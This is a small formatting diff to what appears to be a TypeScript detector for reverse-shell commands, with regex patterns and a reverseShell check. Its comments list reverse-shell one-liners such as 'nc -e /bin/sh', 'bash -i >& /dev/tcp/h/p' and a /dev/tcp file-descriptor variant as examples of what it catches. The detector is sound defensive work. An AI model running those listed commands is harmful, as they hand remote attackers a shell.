@@ -11,7 +11,6 @@ const SCRIPT_SHELL = /['"](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?=['"\s])|pty\.
 /** …with the shell's stdio on the socket: dup2, pty.spawn, stdin=s.fileno(), .pipe(, open(STDIN, ">&S"), <&3. */
 const SCRIPT_WIRE = /dup2|pty\.spawn|fileno\(\)|\.pipe\(|[<>]&\s*%?\w|STDIN/;
 
-
 /** A shell handed to a network peer: nc -e /bin/sh, bash -i >& /dev/tcp/h/p, socat exec:bash tcp:…, nc h p | sh */
 const reverseShell: Check = (c, scope) => {
   const prog = programName(c.words[0]);
@@ -28,7 +27,8 @@ const reverseShell: Check = (c, scope) => {
   // exec 196<>/dev/tcp/h/p; sh <&196 >&196 2>&196
   if (!tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === "<&" || r.op === "<")) {
     const fds = new Set<string>();
-    for (const x of scope.cmds) for (const r of x.redirects) if (r.fd !== null && r.fd > 2 && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)) fds.add(String(r.fd));
+    for (const x of scope.cmds)
+      for (const r of x.redirects) if (r.fd !== null && r.fd > 2 && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)) fds.add(String(r.fd));
     if (fds.size && c.redirects.some((r) => (r.op === "<&" || r.op === "<") && fds.has(r.target.text.replace(/^&/, "")))) return true;
   }
   return tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === ">&" || r.op === "&>" || r.op === "<" || r.op === "<&" || r.op === "<>");
